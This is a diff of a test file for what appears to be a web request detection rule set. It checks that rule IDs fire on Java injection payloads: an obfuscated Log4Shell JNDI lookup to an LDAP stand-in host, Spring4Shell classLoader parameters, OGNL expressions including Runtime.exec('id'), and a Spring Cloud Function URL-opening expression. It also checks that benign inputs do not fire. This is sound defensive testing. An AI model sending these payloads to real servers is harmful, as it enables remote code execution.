@@ -133,8 +133,30 @@ describe('Java: expressions and lookups', () => {
     expect(alertIds({ target: '/', requestHeaders: [['X-Forwarded-Host', "${jn${date:}di${date:':'}ldap://dt.example.net/a}"]] })).toContain(800101);
   });
 
-  it('Spring4Shell in bracket syntax', () => {
+  it('Spring4Shell in bracket syntax, and a short probe whose name reads as an ordinary one', () => {
     expect(idsOf('class[module][classLoader][resources][context][parent][pipeline][first][pattern]', 'body_form_name')).toContain(420105);
+    expect(alertIds({ target: '/?class.module.classLoader.URLs%5B0%5D=0' })).toContain(420105);
+    expect(alertIds({ target: '/?user.class=premium&item.classification=a' })).toEqual([]);
+  });
+
+  it('OGNL by its own syntax: static members as @package.Class@member, chained context variables', () => {
+    const confluence = '${(#a="x"+"a").(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd",#a))}';
+    expect(alertIds({ target: `/${encodeURIComponent(confluence)}/` })).toContain(420112);
+    expect(idsOf('(#ctx=#attr.x).(#ctx.y)')).toContain(420112);
+    expect(idsOf("@java.lang.Runtime@getRuntime().exec('id')")).toContain(420112);
+    expect(idsOf('mail john.doe@example.com or jane@corp.example.org')).toEqual([]);
+  });
+
+  it('java.net.URL opened from input (Spring Cloud Function routing expressions)', () => {
+    expect(
+      alertIds({
+        method: 'POST',
+        target: '/functionRouter',
+        requestHeaders: [['spring.cloud.function.routing-expression', 'new java.net.URL("http://x.example").openStream()']],
+        requestBody: 'data',
+      }),
+    ).toContain(420102);
+    expect(idsOf('java.net.URLEncoder.encode(q, "UTF-8")')).toEqual([]);
   });
 
   it('a class named among words is read about, not asked for', () => {
